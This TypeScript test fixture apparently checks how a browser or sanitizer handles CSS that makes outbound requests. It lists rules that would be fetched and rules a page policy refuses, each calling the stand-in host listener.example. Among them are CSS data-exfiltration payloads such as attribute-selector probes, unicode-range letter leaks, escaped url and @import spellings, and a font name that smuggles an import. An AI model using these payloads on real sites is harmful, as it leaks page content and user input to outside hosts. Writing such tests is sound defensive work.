/** The origin to which the rules of these tests would send what they learn. */
export const listener = 'https://listener.example'

const at = (name: string): string => `${listener}/${name}`

/**
 * Ways in which CSS has a browser ask for something, one rule each, each with an address of its own; they fit any page
 * with a form. A browser that reads them as they are asks for all of these.
 */
export const askingRules: Readonly<Record<string, string>> = {
  'attribute selector': `form[method^="p"] { background: url(${at('attribute')}) }`,
  'negated selector': `html:not([data-session="x"]) { background-image: url("${at('not')}") }`,
  'relational selector': `main:has(form) { background: url('${at('has')}') }`,
  'list style': `main h1 { display: list-item; list-style-image: url(${at('list-style')}) }`,
  content: `main form::before { content: url(${at('content')}) }`,
  'border image': `main form { border: 1px solid; border-image: url(${at('border-image')}) 1 }`,
  'image set': `main button { background-image: image-set("${at('image-set')}" 1x) }`,
  'old image set': `main form::after { content: ""; background: -webkit-image-set(url(${at('webkit-image-set')}) 1x) }`,
  'cross-fade': `main label { background: -webkit-cross-fade(url(${at('cross-fade')}), none, 50%) }`,
  'custom property': `:root { --leak: url(${at('variable')}) } main p { background: var(--leak) }`,
  keyframes: `@keyframes leak { from { background: url(${at('keyframes')}) } } main a { animation: leak 9s }`,
  'media query': `@media (min-width: 1px) { header { background: url(${at('media')}) } }`,
  'supports query': `@supports (display: grid) { body { background: url(${at('supports')}) } }`,
  'escaped name': `main input { background: u\\72l(${at('escape')}) }`,
  'name after a text': `main span { content: "url("; } main div { background: url(${at('after-text')}) }`,
}

/** Ways that a browser refuses by the page’s policy, or by where the rule stands; they must not even be tried. */
export const refusedRules: Readonly<Record<string, string>> = {
  import: `@import url(${at('import')});`,
  'import of a text': `@import "${at('import-text')}" layer(x) screen;`,
  'escaped import': `@\\69mport "${at('import-escape')}";`,
  font: `@font-face { font-family: Leak; src: url(${at('font')}) } body { font-family: Leak, Montserrat }`,
  'font by letters': `@font-face { font-family: Range; src: url(${at('letter-a')}); unicode-range: U+61 } main { font-family: Range }`,
  'font name': `body { font-family: Montserrat'; @import url(${at('font-name')}); }`,
  mask: `main h2 { mask-image: url(${at('mask')}) }`,
  filter: `main header { filter: url(${at('filter')}#f) }`,
  'clip path': `main footer { clip-path: url(${at('clip')}#c) }`,
  cursor: `main { cursor: url(${at('cursor')}), auto }`,
  shape: `main img { float: left; shape-outside: url(${at('shape')}) }`,
  source: `main section { background: src("${at('src')}") }`,
  namespace: `@namespace url(${at('namespace')});`,
  'address that does not end': `main aside { background: url("${at('open')}`,
}
